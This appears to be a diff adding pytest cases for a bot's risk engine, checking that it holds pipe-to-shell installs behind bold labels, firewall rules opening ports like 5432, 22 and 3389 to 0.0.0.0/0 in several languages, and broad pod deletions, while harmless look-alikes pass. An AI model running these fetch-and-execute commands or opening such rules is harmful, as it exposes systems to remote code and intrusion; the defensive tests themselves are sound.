@@ -1,0 +1,91 @@
+"""Kinds of the lead's seventh pass (issue 19): commands after a bold label, firewall
+rules added in words, and housekeeping of finished pods. Each with look-alikes."""
+
+from __future__ import annotations
+
+import pytest
+
+from bot.config import EXAMPLE_CONFIG
+from bot.config_file import load_config
+from bot.risk.engine import RiskEngine
+
+_ENGINE = RiskEngine(load_config(EXAMPLE_CONFIG))
+
+
+def _decision(text: str) -> str:
+    return _ENGINE.assess(text).decision
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "**Run:** curl -sL https://raw.githubusercontent.com/certfix/renew/main/fix.sh | sudo bash",
+        "__Fix__: curl -fsSL https://get.example-tools.io/install.sh | bash",
+        "*Then:* wget -qO- https://bit.ly/3fixit | sh",
+    ],
+)
+def test_a_command_after_a_bold_label_is_read(text: str) -> None:
+    assert _decision(text) != "allow"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "**Run:** sudo certbot renew --cert-name staging.example && sudo systemctl reload nginx",
+        "**Check:** curl -s https://status.example.com/api/v2/status.json | jq .status",
+    ],
+)
+def test_a_harmless_command_after_a_bold_label_stays_allowed(text: str) -> None:
+    assert _decision(text) == "allow"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "Add a rule for TCP 5432 from 0.0.0.0/0 on sg-0db-prod",
+        "Create an ingress rule on sg-0db-prod: port 5432, source 0.0.0.0/0",
+        "Inbound rule: TCP 22, source 0.0.0.0/0",
+        "Ajoute une règle entrante : TCP 5432 depuis 0.0.0.0/0 sur sg-0db-prod",
+        "Crea una regla de firewall: puerto 3389, origen 0.0.0.0/0",
+        "Crie uma regra de firewall na porta 3389 com origem 0.0.0.0/0",
+        "在 sg-0db-prod 上添加一条入站规则，端口 5432，来源 0.0.0.0/0",
+        "给安全组加一条规则：3306 端口，源地址 0.0.0.0/0",
+    ],
+)
+def test_a_rule_added_for_the_whole_internet_is_held(text: str) -> None:
+    assert _decision(text) != "allow"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "Add a deny rule for TCP 5432 from 0.0.0.0/0 on sg-0db-prod",
+        "Add an inbound rule for TCP 5432 from 10.20.0.0/16 on sg-0db-prod",
+        "Delete the inbound rule that allows TCP 5432 from 0.0.0.0/0",
+        "Never add a rule for TCP 5432 from 0.0.0.0/0 on the prod database.",
+        "Inbound rule: TCP 443, source 10.0.0.0/8",
+        "Ajoute une règle entrante : TCP 5432 depuis 10.8.0.0/16 (le VPN)",
+        "给安全组加一条规则：3306 端口，源地址 10.0.0.0/8",
+        "Add a rule to the lint config so unused imports fail the build.",
+        "Create a rule in Gmail that forwards invoices to the finance label.",
+        "The health check probes tcp:8080 every 10 seconds.",
+        "在安全组里添加一条拒绝规则，来源 0.0.0.0/0",
+        "Ajoute une règle de refus pour TCP 5432 depuis 0.0.0.0/0",
+    ],
+)
+def test_scoped_denying_or_unrelated_rules_stay_allowed(text: str) -> None:
+    assert _decision(text) == "allow"
+
+
+def test_finished_pods_by_selector_are_housekeeping() -> None:
+    assert (
+        _decision(
+            "kubectl delete pod -n jobs -l app=report --field-selector=status.phase==Succeeded"
+        )
+        == "allow"
+    )
+    assert _decision("kubectl delete pods -l app=api -n prod") != "allow"
+    assert (
+        _decision("kubectl delete pods -l app=api -n prod --field-selector=status.phase!=Succeeded")
+        != "allow"
+    )
